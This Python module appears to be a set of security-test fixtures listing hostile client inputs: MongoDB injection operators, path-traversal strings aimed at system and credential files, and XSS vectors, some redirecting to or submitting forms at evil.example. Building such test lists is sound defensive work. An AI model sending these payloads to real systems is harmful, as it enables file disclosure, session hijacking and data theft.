"""What a hostile client puts where plain text belongs."""

OPERATORS = """
    $eq $ne $gt $gte $lt $lte $in $nin $and $or $nor $not $exists $type $expr $jsonSchema $mod
    $regex $options $text $search $where $function $accumulator $elemMatch $all $size $slice
    $near $geoWithin $bitsAllSet $comment $natural $rand $set $unset $inc $push $rename $lookup
    $merge $out
""".split()  # noqa: SIM905 - a list of forty would be forty lines
"""MongoDB's own words: of queries, of updates, of pipelines."""

NOT_IDS = (
    "x",
    "x" * 15,
    "x" * 65,
    "..",
    "...",
    "%2e%2e",
    "%252e%252e",
    "..%2f..%2fetc%2fpasswd",
    "..%5c..%5cwindows",
    "%c0%ae%c0%ae%c0%af",
    "%ef%bc%8e%ef%bc%8e",
    "%00",
    "xxxxxxxxxxxxxxxxxxxxx%00",
    "xxxxxxxxxxxxxxxxxxxxxx.png",
    "xxxxxxxxxxxxxxxxxxxxxx%0a",
    "xxxxxxxxxxxxxxxxxxxxxx%20",
    "%2fetc%2fpasswd",
    "file:%2f%2f%2fetc%2fpasswd",
    "~root",
    "NUL",
    "C:",
    "%7b%22$ne%22:null%7d",
    "[$ne]",
    "$where",
    "*",
    "'%20or%20''='",
)
"""Where an id belongs, as they stand in an address."""

_DOTS = (
    "..", "%2e%2e", ".%2e", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "..;", "....",
    "%ef%bc%8e%ef%bc%8e",
)  # fmt: skip
_SLASHES = ("/", "%2f", "%252f", "%5c", "%c0%af", "//", "%u2215")

TRAVERSALS = (
    *(slash.join((dots, dots, "etc", "passwd")) for dots in _DOTS for slash in _SLASHES),
    "%2fetc%2fpasswd",
    "file:%2f%2f%2fetc%2fpasswd",
    "c:%5cwindows%5cwin.ini",
    "%5c%5cserver%5cshare",
    "x/../../../etc/passwd",
    "x%00.jpg",
    "..%00/",
    "~root/.bashrc",
    "./././x/..",
    "%ff%fe/..",
)
"""Ways out of a folder, as they stand in an address."""

VECTORS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onload="alert(1)',
    "' onload='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed" x="',
    "` onmouseover=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    '"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    "0;url=https://evil.example",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example>",
    "<form action=https://evil.example><button>",
    "<object data=data:text/html,x>",
    "<math><mi//xlink:href=data:x,alert(1)>",
    "{{ 7*7 }}{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028alert(1)\u2029",
    "\\u003cscript\\u003e",
)
"""Texts that would do something if they reached a page as markup."""
